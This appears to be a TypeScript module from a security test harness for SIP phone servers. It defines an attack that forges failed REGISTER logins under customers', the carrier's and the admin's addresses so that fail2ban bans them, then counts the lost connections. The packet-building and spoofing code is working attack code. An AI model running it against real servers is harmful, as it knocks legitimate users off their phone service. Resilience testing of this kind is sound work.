import { setTimeout as pause } from "node:timers/promises";
import { above, type Attack } from "./attack";
import { customers, losses } from "./bystander";
import { forge } from "./stranger";
import type { Target } from "./target";

/** A login that fails, made to look as if it came from `source`. */
function failure(target: Target, source: string, index: number): string {
  const user = target.accounts[index % 2]?.user ?? "";
  const digest = `Digest username="${user}", realm="asterisk", nonce="1/forged", uri="sip:${target.address}"`;
  const account = `<sip:${user}@${target.address}>`;
  return [
    `REGISTER sip:${target.address} SIP/2.0`,
    `Via: SIP/2.0/UDP ${source}:5999;branch=z9hG4bKf${index}-${Date.now()};rport`,
    "Max-Forwards: 70",
    `From: ${account};tag=f${index}`,
    `To: ${account}`,
    `Call-ID: f${index}-${Date.now()}`,
    "CSeq: 1 REGISTER",
    `Authorization: ${digest}, response="${"0".repeat(32)}", algorithm=MD5`,
    "Content-Length: 0",
    "",
    "",
  ].join("\r\n");
}

const each = 60;
const rounds = 5;

/** Has customers banned by failures in their name. */
export const forgedFailures: Attack = {
  name: "forged-failures",
  what: "sends 60 failing logins with the forged address of each of a phone, a phone on the road, the carrier and the admin",
  measures: "customers' logins, answers and connections lost of 20",
  goal: "0",
  weak: ["fail2ban22"],
  bothRoads: true,
  sample: true,
  run: async (target) => {
    const everybody = customers(target);
    const before = await losses(everybody, 1);
    if (before.lost > 0) throw new Error(`before the attack ${target.name} does not answer: ${before.who.join(", ")}`);
    // What a phone has proved reaches the firewall within 2 s; a customer proved it long before an attack.
    await pause(3_000);
    const packets = everybody.flatMap(({ address: source }) =>
      Array.from({ length: each }, (_, index) => ({ source, sourcePort: 5999, text: failure(target, source, index) })),
    );
    await forge(target, packets);
    // A ban follows the log by up to 2 s.
    await pause(3_000);
    const { lost, who } = await losses(everybody, rounds);
    return above(0, lost, who.join(", ") || undefined);
  },
};
